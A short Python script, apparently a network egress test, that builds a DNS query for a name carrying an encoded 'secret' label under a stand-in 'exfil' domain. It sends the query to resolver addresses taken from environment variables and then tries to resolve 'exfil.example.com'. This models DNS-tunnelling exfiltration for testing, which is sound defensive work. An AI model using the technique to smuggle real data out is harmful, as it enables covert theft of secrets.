# A DNS query for a data-carrying name, sent to a resolver address on this machine.
import os, socket, struct
query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
for label in ["c2VjcmV0", "exfil", "example"]:
    query += bytes([len(label)]) + label.encode()
query += b"\0" + struct.pack(">HH", 1, 1)
for host in os.environ["TARGETS"].split(","):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    try:
        s.sendto(query, (host, int(os.environ["UDP_PORT"])))
        s.recvfrom(512)
        print("ANSWERED", host)
    except OSError as e:
        print("no answer", host, e.__class__.__name__)
try:
    socket.getaddrinfo("exfil.example.com", 443)
    print("RESOLVED")
except OSError as e:
    print("no resolution", e.__class__.__name__)
